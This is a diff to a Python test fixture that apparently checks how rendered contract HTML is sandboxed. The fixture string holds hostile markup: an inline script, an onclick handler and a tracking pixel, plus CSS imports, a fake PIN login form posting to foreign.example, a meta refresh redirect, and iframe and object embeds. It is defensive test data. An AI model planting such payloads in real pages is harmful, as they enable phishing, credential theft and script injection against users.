@@ -28,7 +28,14 @@ from ehtoolkit.forms.work import Submission
 
 CONTRACT = (
     "<h2>Contract</h2><p onclick='parent.hurt()'>Text <img src='https://foreign.example/pixel.png'></p>"
-    "<script>parent.document.title = 'hurt'</script>" + "<p>One more line of the contract.</p>" * 40
+    "<script>parent.document.title = 'hurt'</script>"
+    "<style>@import 'https://foreign.example/a.css'; h2 { background: url(https://foreign.example/b.png) }</style>"
+    "<form action='https://foreign.example/c' target='_top'><input name='pin'><button>Log in</button></form>"
+    "<p><a href='https://foreign.example/d' target='_top'>Away</a> <a href='https://foreign.example/e'>Here</a></p>"
+    "<meta http-equiv='refresh' content='0;url=https://foreign.example/f'>"
+    "<object data='https://foreign.example/g'></object><iframe src='https://foreign.example/h'></iframe>"
+    + "<p>One more line of the contract.</p>"
+    * 40
 )
 SEEN: dict[str, Any] = {}
 
